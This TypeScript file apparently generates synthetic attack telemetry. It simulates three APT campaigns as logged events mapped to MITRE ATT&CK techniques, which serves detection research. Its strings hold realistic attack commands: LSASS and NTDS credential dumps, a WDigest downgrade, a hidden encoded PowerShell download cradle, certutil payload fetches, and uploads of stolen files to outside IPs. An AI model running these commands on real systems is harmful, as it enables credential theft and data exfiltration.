/** Campaigns APT4–APT6: VPN valid account + WinRM + procdump; scheduled task + ntdsutil on the DC; slow beaconing + WDigest. */
import { CLOUD_IPS, WEB_IPS } from './addresses';
import { remoteExec } from './benign-admin';
import type { Kit } from './campaign-kit';
import { discover, type Foothold } from './campaigns-a';
import { encodePs } from './encode';
import { logon, netConnect, regEvent, spawn, procCreate } from './events';
import { IMG } from './images';
import { explorerOf, outlookOf, svchostOf } from './parents';
import { domainUser, shortName, userSid } from './world';

export function apt4(k: Kit): Foothold {
  const { c, victim: h } = k;
  const cloud = CLOUD_IPS[12];
  k.phase('initial');
  c.out.push(logon(k.pause(), h, 10, c.rng.choice(c.world.vpnIps), h.user, k.tag('initial-access', 'T1133 external remote services')));
  const ex = explorerOf(h, h.user, k.t);
  const ps = k.run(ex, IMG.powershell, `"${IMG.powershell}" `, k.tag('execution', 'T1059.001 powershell'));
  k.phase('discovery');
  k.run(ps, IMG.powershell, 'powershell.exe -Command "Get-ADComputer -Filter * -Properties OperatingSystem | Select-Object Name,OperatingSystem"', k.tag('discovery', 'T1018 remote system discovery'));
  k.run(ps, IMG.powershell, `powershell.exe -Command "Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv C:\\Users\\Public\\u.csv -NoTypeInformation"`, k.tag('discovery', 'T1087.002 domain account'));
  discover(k, ps, 3);
  k.phase('credential');
  k.run(ps, IMG.procdump, `procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\${c.rng.hex(4)}.dmp`, k.tag('credential-access', 'T1003.001 lsass dump'));
  k.phase('lateral');
  const adm = domainUser(c.world.admin);
  let last = ps;
  for (const dst of [c.world.fs, c.world.dc]) {
    const inv = k.run(ps, IMG.powershell, `powershell.exe -Command "Invoke-Command -ComputerName ${shortName(dst)} -ScriptBlock { Get-Process }"`, k.tag('lateral-movement', 'T1021.006 winrm'), adm);
    last = remoteExec(c, k.pause(), inv, dst, 'winrm', 'powershell.exe -NoProfile -Command Get-Process', k.tag('lateral-movement', 'T1021.006 winrm'));
  }
  k.phase('exfil');
  k.run(ps, IMG.robocopy, `robocopy \\\\FS01\\Shared\\HR C:\\Users\\Public\\hr /E /R:1 /W:1`, k.tag('collection', 'T1039 data from network share'));
  c.out.push(netConnect(k.pause(), ex, c.world.fs.ip, 445, 'tcp', k.tag('collection', 'T1039 data from network share')));
  k.run(ps, IMG.sevenZip, `"${IMG.sevenZip}" a -tzip C:\\Users\\Public\\hr.zip C:\\Users\\Public\\hr\\*`, k.tag('collection', 'T1560.001 archive via utility'));
  const up = k.run(ps, IMG.powershell, `powershell.exe -Command "Invoke-RestMethod -Uri https://${cloud}/b/${c.rng.hex(12)} -Method Put -InFile C:\\Users\\Public\\hr.zip"`, k.tag('exfiltration', 'T1567.002 exfil to cloud storage'));
  for (let i = c.rng.int(3, 6); i > 0; i--) k.connect(up, cloud, 443, k.tag('exfiltration', 'T1567.002 exfil to cloud storage'));
  void last;
  // Hands-on-keyboard actor: the "beacons" are the interactive session's share browsing.
  return { implant: { ...ex }, c2: [c.world.fs.ip], port: 445 };
}

export function apt5(k: Kit): Foothold {
  const { c, victim: h } = k;
  const c2 = ['193.29.57.161', WEB_IPS[44]];
  const payload = `IEX (New-Object Net.WebClient).DownloadString('https://${c2[0]}/t')`;
  k.phase('initial');
  const app = IMG.excel;
  const doc = k.run(outlookOf(h, h.user, k.t), app, `"${app}" /n "C:\\Users\\${h.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${c.rng.hex(8).toUpperCase()}\\timesheet_${c.rng.int(100, 999)}.xlsm" /o ""`, k.tag('initial-access', 'T1566.001 spearphishing attachment'));
  const task = `schtasks /create /tn "Microsoft\\Windows\\Maintenance\\WinSAT${c.rng.int(2, 9)}" /tr "powershell -w hidden -enc ${encodePs(payload)}" /sc minute /mo 30 /f`;
  const sh = k.run(doc, IMG.cmd, `cmd.exe /c ${task}`, k.tag('persistence', 'T1053.005 scheduled task'));
  k.run(sh, IMG.schtasks, task, k.tag('persistence', 'T1053.005 scheduled task'));
  const impl = spawn(c.rng, h, domainUser(h.user), IMG.powershell, `powershell.exe -w hidden -enc ${encodePs(payload)}`);
  c.out.push(procCreate(k.pause(600), impl, svchostOf(h, 'netsvcs'), k.tag('execution', 'T1053.005 scheduled task')));
  k.connect(impl, c2[0], 443, k.tag('command-and-control', 'T1071.001 web'));
  k.phase('discovery');
  discover(k, impl, 5);
  k.phase('lateral');
  const adm = domainUser(c.world.admin);
  const px = k.run(impl, IMG.psexec, `PsExec64.exe \\\\DC01 -accepteula -s cmd /c "whoami"`, k.tag('lateral-movement', 'T1569.002 psexec'), adm);
  const dcShell = remoteExec(c, k.pause(), px, c.world.dc, 'psexec', 'cmd /c "whoami"', k.tag('lateral-movement', 'T1021.002 admin share'));
  k.phase('credential');
  const ifm = `C:\\Windows\\Temp\\${c.rng.hex(4)}`;
  k.run(dcShell, IMG.ntdsutil, `ntdsutil "ac i ntds" ifm "create full ${ifm}" q q`, k.tag('credential-access', 'T1003.003 ntds'));
  k.phase('exfil');
  k.run(dcShell, IMG.rar, `"${IMG.rar}" a -hp${c.rng.hex(8)} -m5 ${ifm}.rar ${ifm}`, k.tag('collection', 'T1560.001 archive via utility'));
  const up = k.run(dcShell, IMG.powershell, `powershell.exe -c "Invoke-WebRequest -Uri https://${c2[1]}/u -Method POST -InFile ${ifm}.rar"`, k.tag('exfiltration', 'T1041 exfil over C2'));
  for (let i = c.rng.int(2, 4); i > 0; i--) k.connect(up, c2[1], 443, k.tag('exfiltration', 'T1041 exfil over C2'));
  return { implant: impl, c2, port: 443 };
}

export function apt6(k: Kit): Foothold {
  const { c, victim: h } = k;
  const c2 = [WEB_IPS[60], WEB_IPS[61], '5.252.177.21'];
  k.phase('initial');
  const ex = explorerOf(h, h.user, k.t);
  const sh = k.run(ex, IMG.cmd, `"${IMG.cmd}" /c "C:\\Users\\${h.user}\\Downloads\\${c.rng.choice(['sync', 'backup', 'setup'])}.bat"`, k.tag('initial-access', 'T1204.002 user execution'));
  const cu = k.run(sh, IMG.certutil, `certutil -urlcache -split -f http://${c2[2]}/img/logo.png C:\\Users\\Public\\logo.png`, k.tag('command-and-control', 'T1105 ingress tool transfer'));
  k.connect(cu, c2[2], 80, k.tag('command-and-control', 'T1105 ingress tool transfer'));
  const impl = k.run(sh, IMG.rundll32, 'rundll32.exe C:\\Users\\Public\\logo.png,Start', k.tag('execution', 'T1218.011 rundll32'));
  k.phase('discovery');
  discover(k, impl, 3);
  k.phase('credential');
  const regp = k.run(impl, IMG.reg, 'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f', k.tag('credential-access', 'T1112 wdigest downgrade'));
  c.out.push(regEvent(k.pause(), regp, 13, 'HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential', 'DWORD (0x00000001)', k.tag('credential-access', 'T1112 wdigest downgrade')));
  k.pause(3600 * 6);
  k.run(impl, IMG.powershell, `powershell.exe -nop -enc ${encodePs('$p=Get-Process lsass; rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump $p.Id C:\\Users\\Public\\l.tmp full')}`, k.tag('credential-access', 'T1003.001 lsass dump'));
  k.phase('lateral');
  const ws2 = c.world.workstations[(c.world.workstations.indexOf(h) + 2) % c.world.workstations.length];
  const wm = k.run(impl, IMG.wmic, `wmic /node:${shortName(ws2)} process call create "rundll32.exe C:\\Users\\Public\\logo.png,Start"`, k.tag('lateral-movement', 'T1047 wmi'), domainUser(c.world.admin));
  const r2 = remoteExec(c, k.pause(), wm, ws2, 'wmi', 'cmd /c rundll32.exe C:\\Users\\Public\\logo.png,Start', k.tag('lateral-movement', 'T1047 wmi'));
  k.connect(r2, c2[0], 443, k.tag('command-and-control', 'T1071.001 web'));
  c.out.push(regEvent(k.pause(), r2, 13, `HKU\\${userSid(ws2.user)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\LogoSync`, 'rundll32.exe C:\\Users\\Public\\logo.png,Start', k.tag('persistence', 'T1547.001 run key')));
  k.phase('exfil');
  // Low and slow: many small uploads over hours through fronted CDN addresses.
  for (let i = c.rng.int(6, 12); i > 0; i--) {
    k.pause(1800);
    const p = k.run(impl, IMG.curl, `curl.exe -s -X POST --data-binary @C:\\Users\\${h.user}\\Documents\\${c.rng.choice(['budget', 'roadmap', 'contract'])}_${c.rng.int(1, 99)}.xlsx https://${c.rng.choice(c2.slice(0, 2))}/api/telemetry`, k.tag('exfiltration', 'T1029 scheduled transfer'));
    k.connect(p, c.rng.choice(c2.slice(0, 2)), 443, k.tag('exfiltration', 'T1029 scheduled transfer'));
  }
  return { implant: impl, c2, port: 443 };
}
